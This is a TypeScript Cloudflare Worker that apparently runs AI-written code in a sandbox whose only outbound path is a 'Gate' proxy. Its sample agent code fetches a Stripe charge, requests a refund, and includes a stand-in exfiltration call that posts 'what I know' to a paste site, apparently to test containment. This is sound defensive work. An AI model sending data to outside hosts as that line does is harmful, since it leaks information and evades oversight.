interface Env {
  readonly LOADER: WorkerLoader;
  readonly GATE: Fetcher;
}

/**
 * Code as a model would write it: it knows the provider's own address, and neither Gate nor a key. A held refund gets
 * 202; a repeat with the same idempotency key gets its outcome.
 */
const CODE = `
export default {
  async fetch() {
    const charge = await fetch("https://api.stripe.com/v1/charges/ch_1");
    const refund = await fetch("https://api.stripe.com/v1/refunds", {
      method: "POST",
      headers: {
        "Content-Type": "application/x-www-form-urlencoded",
        "Idempotency-Key": "refund-of-ch_1",
      },
      body: "charge=ch_1&amount=900",
    });
    const elsewhere = await fetch("https://paste.example.com/", { method: "POST", body: "what I know" });
    return Response.json({
      charge: charge.status,
      refund: [refund.status, await refund.json()],
      elsewhere: [elsewhere.status, await elsewhere.json()],
    });
  },
};`;

export default {
  async fetch(_request, env) {
    const worker = env.LOADER.load({
      compatibilityDate: "2026-10-23",
      mainModule: "agent.js",
      modules: { "agent.js": CODE },
      // No bindings: Gate is the code's only way out.
      env: {},
      globalOutbound: env.GATE,
    });
    return worker.getEntrypoint().fetch("https://agent.invalid/");
  },
} satisfies ExportedHandler<Env>;
